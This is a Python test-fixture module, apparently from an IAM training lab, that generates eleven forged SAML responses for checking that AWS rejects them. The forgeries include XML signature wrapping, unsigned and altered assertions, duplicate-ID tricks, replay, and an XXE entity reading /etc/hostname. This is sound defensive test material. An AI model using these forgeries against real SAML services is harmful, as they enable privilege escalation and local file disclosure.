"""What an attacker makes of SAML responses, for lessons and tests: AWS has to refuse every one of these.

Each forgery takes a provider, one of its users and a role that the user was never given, and returns a response, base
64. `FORGERIES` names them all.

https://www.usenix.org/conference/usenixsecurity12/technical-sessions/presentation/somorovsky (signature wrapping)
"""

from __future__ import annotations

import base64
import copy
from collections.abc import Callable, Mapping
from dataclasses import replace
from datetime import timedelta
from typing import Any

from cryptography.hazmat.primitives.asymmetric import rsa
from lxml import etree

from iamlab.outside.keys import signing_key
from iamlab.outside.saml import ATTRIBUTES, DS, SAML, SAMLP, Claims, SamlIdp, SamlUser, encoded

Forgery = Callable[[SamlIdp, SamlUser, tuple[str, str]], str]


def unsigned(idp: SamlIdp, user: SamlUser, role: tuple[str, str]) -> str:
    """Nobody vouches for it."""
    return encoded(idp.document(_greedy(idp, user, role), sign="nothing"))


def altered(idp: SamlIdp, user: SamlUser, role: tuple[str, str]) -> str:
    """A role written into an assertion after it was signed."""
    response = idp.document(idp.claims(user))
    _role_value(response).text = ",".join(role)
    return encoded(response)


def with_own_key(
    idp: SamlIdp, user: SamlUser, role: tuple[str, str], private: rsa.RSAPrivateKey | None = None
) -> str:
    """Signed well, with the key of somebody else, whose certificate comes along."""
    claims = _greedy(idp, user, role)
    return encoded(idp.document(claims, key=signing_key("idp.example.org", claims.issued, private)))


def wrapped(idp: SamlIdp, user: SamlUser, role: tuple[str, str]) -> str:
    """An evil assertion first, the signed one hidden inside it: signature checks one, careless code reads the other."""
    response = idp.document(idp.claims(user))
    honest = response.find(f"{{{SAML}}}Assertion")
    evil = copy.deepcopy(honest)
    evil.set("ID", "_evil")
    _role_value(evil).text = ",".join(role)
    signature = evil.find(f"{{{DS}}}Signature")
    etree.SubElement(signature, f"{{{DS}}}Object").append(honest)
    response.append(evil)
    return encoded(response)


def beside(idp: SamlIdp, user: SamlUser, role: tuple[str, str]) -> str:
    """An unsigned assertion in front of the signed one."""
    response = idp.document(idp.claims(user))
    honest = response.find(f"{{{SAML}}}Assertion")
    evil = copy.deepcopy(honest)
    evil.set("ID", "_evil")
    evil.remove(evil.find(f"{{{DS}}}Signature"))
    _role_value(evil).text = ",".join(role)
    honest.addprevious(evil)
    return encoded(response)


def same_id(idp: SamlIdp, user: SamlUser, role: tuple[str, str]) -> str:
    """Two assertions under one ID, so that the signature's reference may be read either way."""
    response = idp.document(idp.claims(user))
    honest = response.find(f"{{{SAML}}}Assertion")
    evil = copy.deepcopy(honest)
    _role_value(evil).text = ",".join(role)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(honest)
    response.find(f"{{{SAML}}}Issuer").addnext(extensions)
    response.append(evil)
    return encoded(response)


def with_entity(idp: SamlIdp, user: SamlUser, role: tuple[str, str]) -> str:
    """A document type with an entity in it, which a careless parser fills in from a file of its machine."""
    text = etree.tostring(idp.document(idp.claims(user))).decode()
    declared = '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
    return base64.b64encode((declared + text).encode()).decode()


def by_another_issuer(idp: SamlIdp, user: SamlUser, role: tuple[str, str]) -> str:
    """Signed with the right key, in the name of another provider."""
    return encoded(idp.document(replace(idp.claims(user), issuer="https://elsewhere.example.org/saml")))


def for_another_audience(idp: SamlIdp, user: SamlUser, role: tuple[str, str]) -> str:
    """An assertion meant for another application, carried to AWS."""
    return encoded(idp.document(replace(idp.claims(user), audience="https://wiki.example.org")))


def for_another_recipient(idp: SamlIdp, user: SamlUser, role: tuple[str, str]) -> str:
    """An assertion that says it goes elsewhere."""
    return encoded(idp.document(replace(idp.claims(user), recipient="https://wiki.example.org/acs")))


def stale(idp: SamlIdp, user: SamlUser, role: tuple[str, str]) -> str:
    """An assertion of an hour ago, found in a log."""
    claims = idp.claims(user)
    hour = timedelta(hours=1)
    old = replace(
        claims,
        issued=claims.issued - hour,
        not_before=claims.not_before - hour,
        not_on_or_after=claims.not_on_or_after - hour,
    )
    return encoded(idp.document(old))


def _greedy(idp: SamlIdp, user: SamlUser, role: tuple[str, str]) -> Claims:
    claims = idp.claims(user)
    others = tuple(pair for pair in claims.attributes if pair[0] != ATTRIBUTES + "Role")
    return replace(claims, attributes=((ATTRIBUTES + "Role", (",".join(role),)), *others))


def _role_value(element: Any) -> Any:
    return element.find(f".//{{{SAML}}}Attribute[@Name='{ATTRIBUTES}Role']/{{{SAML}}}AttributeValue")


FORGERIES: Mapping[str, Forgery] = {
    "unsigned": unsigned,
    "altered": altered,
    "signed with another key": with_own_key,
    "wrapped": wrapped,
    "a second assertion": beside,
    "two of one ID": same_id,
    "an entity": with_entity,
    "another issuer": by_another_issuer,
    "another audience": for_another_audience,
    "another recipient": for_another_recipient,
    "stale": stale,
}
